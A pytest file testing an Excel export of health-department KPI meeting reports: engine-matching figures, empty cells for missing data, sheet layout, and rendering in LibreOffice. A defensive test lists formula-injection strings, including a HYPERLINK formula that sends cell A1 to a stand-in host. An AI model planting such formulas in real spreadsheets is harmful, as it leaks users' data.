"""The Excel export (kpi/meetings/export/to_xlsx.py): real workbooks, re-read with openpyxl, unzipped, and opened
in LibreOffice. Expected values come from the engine and from kpi/text.py, never from the exporter."""
from __future__ import annotations

import dataclasses
import datetime as dt
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from kpi import engine, text
from kpi.meetings.export import Column, Table, export, safe, to_xlsx
from tests.export.conftest import with_overdue, HOSTILE, LARGEST
from tests.helpers import scope

SHEETS = text.EXPORT_XLSX["sheets"]
C = text.SNAPSHOT_COLUMNS
FORMULA = re.compile(rb"<f[\s>/]")
SOFFICE = shutil.which("soffice") or "/usr/bin/soffice"


def write(report, path: Path, progress=None) -> Path:
    path.write_bytes(export(report, "xlsx", progress))
    return path


def header(ws, first_label: str, column: int = 1) -> int:
    """The row number of the table whose header starts with `first_label` in `column`."""
    for row in ws.iter_rows(min_col=column, max_col=column):
        if row[0].value == first_label:
            return row[0].row
    raise AssertionError(f"no header «{first_label}» on sheet {ws.title}")


def columns(ws, row: int) -> dict[str, int]:
    return {c.value: c.column for c in ws[row] if c.value is not None}


def body(ws, top: int):
    """Rows under the header at `top` until the first empty row."""
    for row in ws.iter_rows(min_row=top + 1):
        if all(c.value is None for c in row):
            return
        yield row


def label_value(ws, label: str):
    """The cell right of the first cell in column A holding `label`."""
    return ws.cell(header(ws, label), 2)


# ------------------------------------------------------------------ D1: no formula, text stays text

def with_negative_change(report) -> object:
    """The report plus a change table holding a hostile name beside a real fall of 5 points (−0.05)."""
    frame = pd.DataFrame({"name": [HOSTILE[0], "-5"], "attainment_before": [0.9, None],
                          "attainment_after": [0.85, 0.7], "change": [-0.05, None]})
    table = Table("units_change", text.SNAPSHOT["units_change"], [
        Column("name", C["unit"]), Column("attainment_before", C["before"], "percent"),
        Column("attainment_after", C["after"], "percent"), Column("change", C["change"], "points")], frame)
    return dataclasses.replace(report, changes=[*report.changes, table])


def test_hostile_text_is_stored_as_text_and_no_cell_is_a_formula(hostile_report, tmp_path):
    path = write(with_negative_change(hostile_report), tmp_path / "hostile.xlsx")

    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        assert len(sheets) == len(SHEETS)
        for name in sheets:
            assert not FORMULA.search(z.read(name)), f"{name} holds a formula"
        assert not any("externalLink" in n for n in z.namelist())

    wb = openpyxl.load_workbook(path)
    strings = {}
    for ws in wb:
        assert not ws._hyperlinks, ws.title
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type in ("s", "inlineStr"), (ws.title, cell.coordinate)
                    strings.setdefault(cell.value, []).append(cell)

    # Every hostile string of the fixture is on the targets sheet, verbatim but for two characters: the
    # vertical tab, which XML cannot hold, becomes a space, and a CR becomes Excel's line break, LF.
    for hostile in HOSTILE:
        assert safe.printable(hostile).replace("\r", "\n") in strings, repr(hostile)
    assert "Phòng Tổ chức" in strings and "\n=1+1" in strings
    assert not any("\r" in value or "_x000D_" in value for value in strings)
    for literal in ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\n=1+1"]:
        cells = strings[literal]
        assert all(c.quotePrefix for c in cells), literal
        assert {c.parent.title for c in cells} >= {SHEETS["targets"]}
    # Hostile unit names reach the unit sheets too, still text.
    assert {c.parent.title for c in strings[HOSTILE[0]]} >= {SHEETS["unit_area"], SHEETS["coverage"],
                                                             SHEETS["changes"]}
    # The quote prefix marks formula-like text only, not every string.
    plain = [c for value, cells in strings.items() if not safe.formula_like(value) for c in cells]
    assert plain and not any(c.quotePrefix for c in plain)

    # A real fall of 5 points stays a number; the text "-5" beside it stays text.
    ws = wb[SHEETS["changes"]]
    falls = [c for row in ws.iter_rows() for c in row if isinstance(c.value, (int, float)) and c.value < 0]
    fall = next(c for c in falls if ws.cell(c.row, c.column - 3).value == HOSTILE[0])
    assert fall.data_type == "n" and fall.value == pytest.approx(-5.0, abs=1e-9)
    assert fall.number_format == to_xlsx.VIETNAMESE + "+0.0;-0.0;0.0"
    minus_five = next(c for c in strings["-5"] if c.parent.title == SHEETS["changes"])
    assert minus_five.quotePrefix
    assert ws.cell(minus_five.row, minus_five.column + 1).value is None     # missing "before": empty
    assert ws.cell(minus_five.row, minus_five.column + 3).value is None     # missing change: empty, not 0


def test_the_meeting_report_keeps_a_negative_change_numeric(report, tmp_path):
    wb = openpyxl.load_workbook(write(report, tmp_path / "report.xlsx"))
    ws = wb[SHEETS["changes"]]
    top = header(ws, C["unit"])     # the units table, from column A as every table
    change = columns(ws, top)[C["change"]]
    by_unit = {row[0].value: row[change - 1] for row in body(ws, top)}
    units = next(t for t in report.changes if t.key == "units_change").frame
    expected = dict(zip(units["name"], units["change"]))
    assert set(by_unit) == set(expected)
    assert any(v < 0 for v in expected.values())
    for name, cell in by_unit.items():
        assert cell.data_type == "n"
        assert cell.value == pytest.approx(expected[name] * 100, abs=1e-9)


# ------------------------------------------------------------------ numbers equal the engine

def test_numbers_equal_the_engine(report, demo_db, tmp_path):
    ov = engine.overview(demo_db, scope(LARGEST, "2023-Q3"))
    wb = openpyxl.load_workbook(write(report, tmp_path / "report.xlsx"))

    summary = wb[SHEETS["summary"]]
    plan = ov["plan"].iloc[0]
    overall = label_value(summary, text.OVERVIEW["metric_attainment"])
    assert overall.data_type == "n" and overall.value == pytest.approx(plan["attainment"], abs=1e-9)
    assert "%" in overall.number_format
    for label, key in [(text.OVERVIEW["metric_targets"], "targets_met"), (text.EXPORT_XLSX["targets_total"], "targets"),
                       (text.OVERVIEW["metric_overdue"], "tasks_overdue")]:
        cell = label_value(summary, label)
        assert cell.data_type == "n" and cell.value == int(plan[key]), label
        assert cell.number_format == to_xlsx.VIETNAMESE + "#,##0"
    coverage = label_value(summary, text.OVERVIEW["metric_coverage"])
    assert coverage.value == pytest.approx(plan["coverage"], abs=1e-9) and coverage.number_format == to_xlsx.VIETNAMESE + "0%"
    assert label_value(summary, text.EXPORT_XLSX["organisation"]).value == "Sở Y tế Đồng Nai"
    assert label_value(summary, text.EXPORT_XLSX["as_of"]).value == dt.datetime(2023, 9, 30)
    assert any(c.value == text.SNAPSHOT["report_illustrative"] for row in summary.iter_rows() for c in row)

    ws = wb[SHEETS["by_area"]]
    top = header(ws, C["name"])
    col = columns(ws, top)[C["attainment"]]
    shown = {row[0].value: row[col - 1] for row in body(ws, top)}
    areas = ov["area"]
    assert set(shown) == set(areas["name"])
    for name, attainment in zip(areas["name"], areas["attainment"]):
        cell = shown[name]
        assert cell.data_type == "n" and cell.value == pytest.approx(attainment, abs=1e-9), name
        assert cell.number_format == to_xlsx.VIETNAMESE + "0.0%"

    ws = wb[SHEETS["targets"]]
    top = header(ws, C["code"])
    col = columns(ws, top)[C["attainment"]]
    shown = {row[0].value: row[col - 1] for row in body(ws, top)}
    targets = ov["target"]
    assert set(shown) == set(targets["code"]) and len(targets) == 39
    for code, attainment in zip(targets["code"], targets["attainment"]):
        if pd.isna(attainment):
            assert shown[code].value is None, code
        else:
            assert shown[code].value == pytest.approx(attainment, abs=1e-9), code

    # Unit × area: a unit without targets or tasks in an area has an empty cell, never 0.
    ws = wb[SHEETS["unit_area"]]
    top = header(ws, C["unit"])
    heads = columns(ws, top)
    matrix = {row[0].value: row for row in body(ws, top)}
    engine_cells = {(u, a): v for u, a, v in zip(ov["unit_area"]["name"], ov["unit_area"]["area_name"],
                                                 ov["unit_area"]["attainment"])}
    empty = 0
    for unit in ov["unit"]["name"]:
        for area in areas["name"]:
            if area not in heads:      # no unit has data in this area
                assert not any(a == area for _, a in engine_cells), area
                continue
            cell = matrix[unit][heads[area] - 1]
            if (unit, area) in engine_cells:
                assert cell.value == pytest.approx(engine_cells[unit, area], abs=1e-9), (unit, area)
            else:
                assert cell.value is None, (unit, area)
                empty += 1
    assert empty > 0


def test_missing_attainment_is_an_empty_cell(report, tmp_path):
    targets = report.targets.frame.copy()
    targets.loc[0, "attainment"] = float("nan")
    changed = dataclasses.replace(report, targets=dataclasses.replace(report.targets, frame=targets))
    ws = openpyxl.load_workbook(write(changed, tmp_path / "missing.xlsx"))[SHEETS["targets"]]
    top = header(ws, C["code"])
    col = columns(ws, top)[C["attainment"]]
    rows = {row[0].value: row[col - 1] for row in body(ws, top)}
    assert rows[targets.loc[0, "code"]].value is None
    assert rows[targets.loc[1, "code"]].value is not None


# ------------------------------------------------------------------ layout

def test_sheets_panes_filters_dates_and_properties(report, demo_db, tmp_path):
    calls = []
    path = tmp_path / "report.xlsx"
    path.write_bytes(to_xlsx.render(report, lambda share, step: calls.append((share, step))))
    wb = openpyxl.load_workbook(path)

    assert wb.sheetnames == list(SHEETS.values())
    for name in wb.sheetnames:
        assert len(name) <= 31 and not set(name) & set("[]:*?/\\"), name
    assert wb.properties.title == text.SNAPSHOT["report_title"]
    assert wb.properties.creator == report.organisation

    assert len(calls) == len(SHEETS)
    shares = [share for share, _ in calls]
    assert shares == sorted(shares) and all(0 <= s <= 1 for s in shares)
    for (_, step), sheet in zip(calls, SHEETS.values()):
        assert sheet in step

    firsts = {"by_area": C["name"], "unit_area": C["unit"], "targets": C["code"], "overdue": C["code"],
              "coverage": C["unit"]}
    for key, first in firsts.items():
        ws = wb[SHEETS[key]]
        top = header(ws, first)
        assert ws.freeze_panes is not None, key
        frozen_row = int(re.sub(r"[A-Z]", "", ws.freeze_panes))
        assert frozen_row == top + 1, key         # everything down to the header row stays in view
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith(f"A{top}:"), key
        assert all(c.font.b for c in ws[top] if c.value is not None), key
        assert ws.column_dimensions["A"].width > 0
    assert wb[SHEETS["unit_area"]].freeze_panes.startswith("B")    # unit names stay in view too
    assert wb[SHEETS["changes"]].freeze_panes is not None

    # Long text wraps inside a bounded column.
    ws = wb[SHEETS["targets"]]
    top = header(ws, C["code"])
    text_col = columns(ws, top)[C["text"]]
    longest = max(body(ws, top), key=lambda row: len(row[text_col - 1].value))[text_col - 1]
    assert longest.alignment.wrap_text
    assert ws.column_dimensions[longest.column_letter].width < len(longest.value)

    # Due dates are dates, as the engine has them.
    ov = engine.overview(demo_db, scope(LARGEST, "2023-Q3"))
    assert not (ov["task"]["status"] == "overdue").any()  # the sheet then says so (ongoing tasks: due 31/12)
    wb = openpyxl.load_workbook(write(with_overdue(report, 3), tmp_path / "overdue.xlsx"))
    ws = wb[SHEETS["overdue"]]
    top = header(ws, C["code"])
    due_col = columns(ws, top)[C["due"]]
    shown = {row[0].value: row[due_col - 1] for row in body(ws, top)}
    assert set(shown) == {"NV01", "NV02", "NV03"}
    for code, cell in shown.items():
        assert cell.is_date and cell.value == dt.datetime(2023, 9, 30), code
        assert cell.number_format == to_xlsx.VIETNAMESE + "dd/mm/yyyy"


def test_without_a_previous_snapshot_the_changes_sheet_says_so(report, tmp_path):
    alone = dataclasses.replace(report, changes=[], changes_against=None)
    ws = openpyxl.load_workbook(write(alone, tmp_path / "alone.xlsx"))[SHEETS["changes"]]
    values = [c.value for row in ws.iter_rows() for c in row if c.value is not None]
    assert text.SNAPSHOT["no_previous"] in values
    assert text.SNAPSHOT["changes"] in values


def test_the_exported_file_reads_back_with_the_known_figures(report, tmp_path):
    """export(report, "xlsx") — the download — opened with openpyxl: every sheet, the summary's texts and the
    figures of Đồng Nai 2023 Quý III known from the other exports (95,2%, 36 targets counted of the 39 listed:
    CT28, CT33, CT39 restate others; 7 areas). Its time is
    measured by bench/bench_export.py, not here."""
    wb = openpyxl.load_workbook(write(report, tmp_path / "download.xlsx"))
    assert wb.sheetnames == list(SHEETS.values())
    summary = wb[SHEETS["summary"]]
    assert label_value(summary, text.EXPORT_XLSX["organisation"]).value == "Sở Y tế Đồng Nai"
    texts = [c.value for row in summary.iter_rows() for c in row if isinstance(c.value, str)]
    assert text.SNAPSHOT["report_title"] in texts
    assert any("Cải cách hành chính của Sở Y tế tỉnh Đồng Nai năm 2023" in t for t in texts)
    assert any("Quý III/2023" in t for t in texts)
    overall = label_value(summary, text.OVERVIEW["metric_attainment"]).value
    assert round(overall * 100, 1) == 95.2
    assert label_value(summary, text.EXPORT_XLSX["targets_total"]).value == 36
    ws = wb[SHEETS["by_area"]]
    areas = [row[0].value for row in body(ws, header(ws, C["name"]))]
    assert len(areas) == 7 and "Cải cách thủ tục hành chính" in areas
    ws = wb[SHEETS["targets"]]
    codes = [row[0].value for row in body(ws, header(ws, C["code"]))]
    assert len(codes) == 39 and codes[0] == "CT01"


# ------------------------------------------------------------------ LibreOffice opens it

@pytest.mark.skipif(not Path(SOFFICE).exists(), reason="LibreOffice is not installed")
@pytest.mark.parametrize("which", ["report", "hostile_report"])
def test_libreoffice_opens_the_workbook(which, request, exports_dir, tmp_path):
    report = request.getfixturevalue(which)
    path = write(report, tmp_path / f"{which}.xlsx")
    done = subprocess.run([SOFFICE, "--headless", "-env:UserInstallation=file:///tmp/lo-xlsx-test",
                           "--convert-to", "pdf", "--outdir", str(tmp_path), str(path)],
                          capture_output=True, timeout=180)
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    pdf = tmp_path / f"{which}.pdf"
    assert pdf.exists() and pdf.read_bytes()[:5] == b"%PDF-"

    shown = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, check=True).stdout.decode()
    shown = " ".join(shown.split())
    for expected in [text.SNAPSHOT["report_title"], report.organisation, text.OVERVIEW["metric_attainment"],
                     "Cải cách thủ tục hành chính"]:
        assert expected in shown, expected
    if which == "hostile_report":
        assert '=HYPERLINK("http://x.example/?"&A1,"Bấm")' in shown   # shown as text, not a link
    else:
        # The formats carry Vietnamese's locale tag: LibreOffice prints 0.937… as 93,7%, as the dashboard does.
        assert text.format_percent(report.overall["attainment"]) in shown

    pages = exports_dir / "xlsx"
    pages.mkdir(parents=True, exist_ok=True)
    for old in pages.glob(f"{which}-*.png"):
        old.unlink()
    subprocess.run(["pdftoppm", "-png", "-r", "50", "-f", "1", "-l", "3", str(pdf), str(pages / which)], check=True)
    assert len(list(pages.glob(f"{which}-*.png"))) == 3
